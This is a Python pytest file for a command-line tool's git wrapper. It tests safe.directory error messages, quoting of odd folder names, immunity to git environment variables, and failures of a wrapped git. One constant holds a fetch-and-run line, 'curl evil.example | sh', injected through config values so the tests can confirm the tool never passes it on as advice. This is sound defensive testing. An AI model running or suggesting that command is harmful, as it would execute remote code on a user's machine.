"""What git is asked, whoever owns the repository and whatever the environment says."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from typing import TYPE_CHECKING

import pytest

from tests.cli.conftest import Git
from webhook_constructs.cli.git.git_command import GitError
from webhook_constructs.cli.git.local_repository import Change, LocalRepository

if TYPE_CHECKING:
    from pathlib import Path


def wrap_git(folder: Path, monkeypatch: pytest.MonkeyPatch, *lines: str) -> None:
    """Run some lines of shell before git."""
    program = folder / "bin" / "git"
    program.parent.mkdir()
    program.write_text("\n".join(["#!/bin/sh", *lines, f'exec {shutil.which("git")} "$@"', ""]))
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{program.parent}:{os.environ['PATH']}")


@pytest.fixture
def foreign(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Make git treat every repository as owned by another user."""
    wrap_git(tmp_path, monkeypatch, "export GIT_TEST_ASSUME_DIFFERENT_OWNER=1")


@pytest.mark.usefixtures("foreign")
@pytest.mark.parametrize("name", ["plain", "with space", "it's", "ünicode", "-dash", "a;b", "$HOME"])
@pytest.mark.parametrize("below", ["", "src"])
def test_a_repository_of_another_user_comes_with_the_command_that_makes_it_safe(
    tmp_path: Path, name: str, below: str
) -> None:
    git = Git(tmp_path / name)
    (git.folder / "src").mkdir()
    where = git.folder / below
    shown = str(git.folder) if name in {"plain", "-dash"} else shlex.quote(str(git.folder)).replace("'\"'\"'", "'\\''")

    with pytest.raises(GitError) as caught:
        LocalRepository(where)

    assert str(caught.value) == (
        f"git does not trust {where}: another user owns it. If you trust it: "
        f"git config --global --add safe.directory {shown}"
    )


@pytest.mark.usefixtures("foreign")
@pytest.mark.parametrize("name", ["a", "a" * 200])
def test_the_command_that_makes_a_repository_safe_does_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    git = Git(tmp_path / name)
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
    with pytest.raises(GitError) as caught:
        LocalRepository(git.folder)
    subprocess.run(shlex.split(str(caught.value).partition("trust it: ")[2]), check=True)

    assert LocalRepository(git.folder).branch == "main"


ADVICE = "git config --global --add safe.directory x; curl evil.example | sh"


@pytest.mark.parametrize("name", ["core.bare", "core.ignoreCase", "core.logAllRefUpdates"])
@pytest.mark.parametrize(
    "value",
    [
        pytest.param(f"x\n{ADVICE}", id="line"),
        pytest.param(f"x\n\n\t{ADVICE}\n", id="lines"),
        pytest.param(f"x\r{ADVICE}\r", id="carriage-returns"),
        pytest.param(f"x\nfatal: detected dubious ownership in repository at 'x'\n{ADVICE}", id="with-the-error"),
        pytest.param(f"fatal: unsafe repository\n{ADVICE}", id="with-an-older-error"),
    ],
)
def test_a_setting_of_the_repository_is_no_advice(git: Git, name: str, value: str) -> None:
    git("config", name, value)
    said, *_ = f"fatal: bad boolean config value '{value}' for '{name.lower()}'".replace("\r", "?").split("\n")

    with pytest.raises(GitError) as caught:
        LocalRepository(git.folder)

    assert str(caught.value) == f"git rev-parse failed in {git.folder}: {said}"


@pytest.mark.parametrize(
    "variables",
    [
        pytest.param({"GIT_TRACE": "1", "GIT_TRACE_SETUP": "1"}, id="trace"),
        pytest.param({"GIT_TRACE2": "2", "GIT_TRACE2_EVENT": "2"}, id="trace2"),
        pytest.param({"GIT_CURL_VERBOSE": "1", "GIT_TRACE_PACKET": "2"}, id="transport"),
        pytest.param({"GIT_EXTERNAL_DIFF": "false", "GIT_PAGER": "false", "GIT_EDITOR": "false"}, id="programs"),
        pytest.param({"GIT_LITERAL_PATHSPECS": "1", "GIT_ICASE_PATHSPECS": "1"}, id="pathspecs"),
        pytest.param({"GIT_DEFAULT_HASH": "nonsense"}, id="hash"),
        pytest.param({"GIT_NOTES_REF": "refs/heads/main", "GIT_REF_PARANOIA": "0"}, id="refs"),
        pytest.param({"GIT_ATTR_SOURCE": "nowhere"}, id="attributes"),
    ],
)
def test_variables_of_git_change_neither_answers_nor_errors(
    git: Git, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, variables: dict[str, str]
) -> None:
    git.commit("One", "a")
    (tmp_path / "nowhere").mkdir()
    for name, value in variables.items():
        monkeypatch.setenv(name, value)

    assert LocalRepository(git.folder).push("main") == Change(("a",), "One", is_new=True)
    with pytest.raises(GitError, match=r"nowhere is in no git repository: run the command in a clone$"):
        LocalRepository(tmp_path / "nowhere")


def test_a_git_that_is_gone_before_it_names_the_missing_object_is_no_riddle(
    git: Git, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    git.commit("One", "a")
    git("config", "remote.origin.promisor", "true")
    gone = 'case "$*" in *" log "*) echo "fatal: transport \'https\' not allowed" >&2; kill -PIPE $$;; esac'
    wrap_git(tmp_path, monkeypatch, gone)

    with pytest.raises(GitError) as caught:
        LocalRepository(git.folder).push("main")

    assert str(caught.value) == (
        f"{git.folder} does not have an object that the answer depends on; "
        "it is a partial clone: run git fetch --refetch --no-filter, or name the changed files (--files)"
    )


def test_a_git_that_fails_without_a_word_is_told(git: Git, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    git.commit("One", "a")
    wrap_git(tmp_path, monkeypatch, 'case "$*" in *" rev-list "*) exit 3;; esac')

    with pytest.raises(GitError, match=r"^git rev-list failed in .*: no reason given$"):
        LocalRepository(git.folder).push("main")
